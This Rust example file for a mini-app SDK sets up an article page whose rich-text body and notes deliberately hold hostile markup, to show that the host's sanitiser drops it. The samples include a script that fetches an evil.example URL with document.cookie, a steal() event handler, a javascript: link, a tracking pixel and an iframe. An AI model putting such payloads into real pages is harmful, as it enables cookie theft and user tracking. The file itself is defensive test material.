//! Article: a page whose body is `<rich-text>` fed HTML-like text, and
//! whose notes are a rich-text fed WeChat's node tree. The body carries what
//! an article fetched from elsewhere may carry (a script, an `onclick`, a
//! `javascript:` link, an image from an undeclared site): the host draws
//! only the tags and attributes WeChat allows, so none of it reaches the
//! page. A tap on the body counts a read (only the rich-text element itself
//! takes a tap, as on WeChat).

use miniapp_sdk::{App, Error, Event, Launch, Result, json, view};

/// The body, as a feed would hand it over.
const BODY: &str = r#"<h2 class="lead" onclick="steal()">Spring menu</h2>
<p style="color: #333; background: url(https://evil.example/leak)">Fresh <b>peas</b> &amp; <i>mint</i>.</p>
<script>fetch("https://evil.example/" + document.cookie)</script>
<p><a href="javascript:alert(1)">More</a> <img src="https://evil.example/pixel.png" alt="tracker"></p>"#;

#[derive(Default)]
struct Article {
    reads: u32,
}

impl App for Article {
    fn on_launch(&mut self, _launch: &Launch) -> Result<()> {
        let notes = json!([
            {"name": "ul", "attrs": {"class": "notes"}, "children": [
                {"name": "li", "children": [{"type": "text", "text": "Serves  2"}]},
                {"name": "li", "attrs": {"onmouseover": "steal()"}, "children": [
                    {"type": "text", "text": "Ready in 20 minutes"}
                ]},
                {"name": "iframe", "attrs": {"src": "https://evil.example/"}}
            ]}
        ]);
        view::set_data(json!({ "body": BODY, "notes": notes, "reads": self.reads }))
    }

    fn on_event(&mut self, event: &Event) -> Result<()> {
        match (event.page.as_str(), event.handler.as_str()) {
            ("index", "read") => {
                self.reads += 1;
                view::set("reads", self.reads)
            }
            (page, handler) => Err(Error::InvalidArgument(format!(
                "no handler {handler} on page {page}"
            ))),
        }
    }
}

miniapp_sdk::export_app!(Article);
